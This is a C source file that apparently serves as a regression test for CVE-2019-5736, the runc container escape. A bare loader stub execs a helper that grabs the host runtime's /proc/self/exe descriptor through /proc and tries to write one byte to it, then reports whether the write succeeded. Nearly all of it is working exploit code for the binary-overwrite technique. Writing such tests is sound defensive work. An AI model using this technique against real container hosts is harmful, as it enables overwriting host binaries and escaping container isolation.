/*
 * CVE-2019-5736: the "library" of a container whose shell is a script with the interpreter /proc/self/exe. The kernel
 * runs the executable of whoever entered the container, and this file, which lies where that executable's dynamic loader
 * should be, in its name. It opens /proc/self/exe and goes on as /grabbed, from which the container's first process, the
 * accomplice, takes the file over. Once the session has ended and nobody runs the file any more, it asks for write access.
 *
 * The loader is free of the C library: it is entered before anything is set up. The file is the test's own copy of
 * an interpreter: one byte of it is written.
 */
#ifdef GRABBED
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int take_over(void)
{
	char path[64];
	int fd = -1;

	while (fd < 0) {
		DIR *dir = opendir("/proc");
		for (struct dirent *entry; fd < 0 && (entry = readdir(dir));)
			if (atoi(entry->d_name) > 1) {
				snprintf(path, sizeof path, "/proc/%d/fd/9", atoi(entry->d_name));
				fd = open(path, O_RDONLY);
			}
		closedir(dir);
		usleep(1000);
	}
	return fd;
}

int main(int argc, char **argv)
{
	struct stat info = {0};
	char path[64];
	FILE *loot;
	int fd, file;

	if (argc < 2) { /* in the session */
		sleep(1);
		return 0;
	}
	file = take_over();
	fstat(file, &info);
	snprintf(path, sizeof path, "/proc/self/fd/%d", file);
	for (int tries = 0; tries < 3000; tries++) {
		fd = open(path, O_WRONLY);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		usleep(1000);
	}
	if (fd >= 0 && pwrite(fd, "x", 1, 0) != 1) { /* seals let it open, and refuse the write */
		close(fd);
		fd = -1;
	}
	loot = fopen(argv[1], "w");
	fprintf(loot, "%lu:%lu %s\n", (unsigned long)info.st_dev, (unsigned long)info.st_ino, fd < 0 ? strerror(errno) : "writable");
	fclose(loot);
	if (fd >= 0)
		close(fd);
	for (;;)
		pause();
}
#else
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d)
{
#ifdef __x86_64__
	register long r10 __asm__("r10") = d;
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return result;
#else
	register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c, x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
#endif
}

void _start(void)
{
	char *argv[] = {(char *)"grabbed", 0}, *envp[] = {0};
	long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);

	call(SYS_dup3, fd, 9, 0, 0);
	call(SYS_execve, (long)"/grabbed", (long)argv, (long)envp, 0);
	call(SYS_exit_group, 7, 0, 0, 0);
	__builtin_unreachable();
}
#endif
